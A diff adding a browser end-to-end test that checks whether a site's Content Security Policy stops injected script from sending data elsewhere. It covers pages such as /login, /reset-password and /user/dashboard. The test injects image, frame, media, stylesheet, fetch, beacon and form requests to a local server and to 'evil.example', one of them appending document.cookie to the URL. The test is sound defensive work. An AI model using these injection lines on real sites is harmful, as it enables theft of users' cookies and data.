@@ -1,0 +1,79 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { expect, test } from "../../support/test.ts";
+
+/** Somebody else's server: what reaches it has left the site. */
+let elsewhere: Server;
+let reached: string[] = [];
+
+test.beforeAll(async () => {
+  elsewhere = createServer((request, response) => {
+    reached.push(`${request.method} ${request.url}`);
+    response.setHeader("access-control-allow-origin", "*");
+    response.end("hello");
+  });
+  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
+});
+test.afterAll(async () => {
+  elsewhere.closeAllConnections();
+  await new Promise((resolve) => elsewhere.close(resolve));
+});
+test.beforeEach(() => {
+  reached = [];
+});
+
+for (const path of [
+  "/",
+  "/properties",
+  "/login",
+  "/reset-password?token=x",
+  "/user/dashboard",
+  "/no-such-page",
+  "/api/docs",
+]) {
+  test(`what is injected into ${path} can send nothing elsewhere`, async ({ page }) => {
+    await page.goto(path);
+    const target = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+    const refused = await page.evaluate(async (origin) => {
+      const directives = new Set<string>();
+      document.addEventListener("securitypolicyviolation", (event) => directives.add(event.effectiveDirective));
+      const add = <K extends keyof HTMLElementTagNameMap>(
+        name: K,
+        set: (element: HTMLElementTagNameMap[K]) => void,
+      ) => {
+        const element = document.createElement(name);
+        set(element);
+        document.body.append(element);
+        return element;
+      };
+      for (const evil of [origin, "https://evil.example"]) {
+        add("img", (image) => {
+          image.src = `${evil}/image?${document.cookie}`;
+        });
+        add("iframe", (frame) => {
+          frame.src = `${evil}/frame`;
+        });
+        add("audio", (audio) => {
+          audio.src = `${evil}/sound`;
+        });
+        add("link", (link) => {
+          link.rel = "stylesheet";
+          link.href = `${evil}/style.css`;
+        });
+        await fetch(`${evil}/fetch`, { mode: "no-cors" }).catch(() => undefined);
+        navigator.sendBeacon(`${evil}/beacon`, "data");
+        const form = add("form", (element) => {
+          element.method = "post";
+          element.action = `${evil}/form`;
+        });
+        form.submit();
+      }
+      await new Promise((resolve) => setTimeout(resolve, 800));
+      return [...directives];
+    }, target);
+    for (const directive of ["img-src", "frame-src", "media-src", "connect-src", "form-action"])
+      expect(refused).toContain(directive);
+    expect(refused.some((directive) => directive.startsWith("style-src"))).toBe(true);
+    expect(reached).toEqual([]);
+  });
+}
